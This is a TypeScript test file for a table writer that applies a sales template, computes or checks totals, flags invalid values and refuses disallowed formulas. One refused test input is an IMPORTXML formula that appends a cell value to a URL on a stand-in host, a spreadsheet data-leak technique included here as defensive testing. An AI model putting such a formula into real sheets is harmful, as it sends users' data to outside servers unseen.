// write_table under a template, and with formulas: the template's columns, our values, and nothing that is not allowed.
import { describe, expect, it } from 'vitest'
import { salesAnalysis } from '../../shared/template/built-in/sales-analysis.ts'
import type { Template } from '../../shared/template/template.ts'
import { write } from './testing/write-call.ts'

const columns = [
  { name: 'Order', type: 'text', currency: null, formula: null },
  { name: 'Price', type: 'currency', currency: 'EUR', formula: null },
]
const rows = [
  ['0042', '€1,200.50'],
  ['0043', '€80'],
]
const plain = { title: 'Orders', rows_announced: 2, columns, rows }
const cells = [
  ['0042', 1200.5],
  ['0043', 80],
]

describe('a template', () => {
  const row = (order: string, more: Record<string, unknown> = {}) => ({
    order,
    date: null,
    customer: null,
    product: null,
    quantity: null,
    unit_price: null,
    total: null,
    status: null,
    more: [],
    ...more,
  })
  const head = { title: 'Orders', rows_announced: null, more_columns: [] }

  it('gives its columns, and computes what the text does not state', async () => {
    const made = await write(
      { ...head, rows: [row('0042', { quantity: '2', unit_price: '€1,200.50' }), row('0043')] },
      { template: salesAnalysis },
    )
    expect(made.start?.columns[6]).toMatchObject({ key: 'total', formula: 'quantity*unit_price' })
    expect(made.start?.columns[5]).toMatchObject({ type: 'currency', currency: 'EUR' })
    expect(made.rows[0]?.[6]).toBe(2401)
    expect(made.evidence[0]?.[6]).toBe('computed')
    expect(made.receipt?.cells_computed).toBeGreaterThan(0)
  })

  it('takes totals that the text states as they are', async () => {
    const made = await write(
      { ...head, rows: [row('1', { quantity: '2', unit_price: '€5', total: '€11' })] },
      { template: salesAnalysis },
    )
    expect(made.start?.columns[6]?.formula).toBeUndefined()
    expect(made.rows[0]?.[6]).toBe(11)
  })

  it('names a stated value that the formula contradicts', async () => {
    const made = await write(
      {
        ...head,
        rows: [
          row('1', { quantity: '2', unit_price: '€5' }),
          row('2', { quantity: '2', unit_price: '€5', total: '€11' }),
        ],
      },
      { template: salesAnalysis },
    )
    expect(made.rows[1]?.[6]).toBe(10)
    expect(made.receipt?.notes.join()).toContain('row 2 states 11 for “Total”')
  })

  it('keeps a value that breaks a rule, and names its cell', async () => {
    const made = await write({ ...head, rows: [row('1', { status: 'Pending' })] }, { template: salesAnalysis })
    expect(made.rows[0]?.[7]).toBe('Pending')
    expect(made.receipt?.notes.join()).toMatch(/“Status” is not in the list \(Open.*row 1 \(Pending\)/)
  })

  it('takes more columns, by list or by name, and rows as plain lists', async () => {
    const more_columns = [{ name: 'Weight', type: 'number', currency: null, formula: null }]
    const made = await write(
      {
        ...head,
        more_columns,
        rows: [row('1', { more: ['3'] }), row('2', { Weight: 4 }), ['3', ...Array(9).fill(null), '5']],
      },
      { template: salesAnalysis },
    )
    expect(made.names?.at(-1)).toBe('Weight')
    expect(made.rows.map((cells) => [cells[0], cells[10]])).toEqual([
      ['1', 3],
      ['2', 4],
      ['3', 5],
    ])
  })

  it('a column of its own named “more” is no list', async () => {
    const template: Template = {
      ...salesAnalysis,
      layout: {
        ...salesAnalysis.layout,
        columns: [{ ...salesAnalysis.layout.columns[0]!, key: 'more', header: 'More' }],
      },
      validation_rules: [],
    }
    const made = await write({ ...head, rows: [{ more: 'x', more_values: [] }] }, { template })
    expect(made.rows).toEqual([['x']])
  })

  it('a model that names columns of its own is followed', async () => {
    const made = await write(plain, { template: salesAnalysis })
    expect(made.names).toEqual(['Order', 'Price'])
    expect(made.rows).toEqual(cells)
  })
})

describe('formulas', () => {
  const formula = (written: string) => ({
    title: 'T',
    columns: [
      { name: 'Unit price', type: 'number' },
      { name: 'Qty', type: 'number' },
      { name: 'Total', type: 'number', formula: written },
    ],
    rows: [['5', '3', null]],
  })

  it('over names in brackets are computed', async () => {
    for (const written of ['[Unit price] * [Qty]', '=unit_price*qty']) {
      const made = await write(formula(written))
      expect(made.rows).toEqual([[5, 3, 15]])
      expect(made.evidence[0]?.[2]).toBe('computed')
    }
  })

  it('that are not allowed are refused with a note', async () => {
    for (const written of [
      'IMPORTXML("http://a.example/?" & [Qty], "//a")',
      '[Nothing] * 2',
      '[Total] + 1',
      'HYPERLINK("x")',
    ]) {
      const made = await write(formula(written))
      expect(made.rows).toEqual([[5, 3, null]])
      expect(made.start?.columns[2]?.formula).toBeUndefined()
      expect(made.receipt?.notes.join()).toContain('The formula for “Total” was not taken')
    }
  })
})
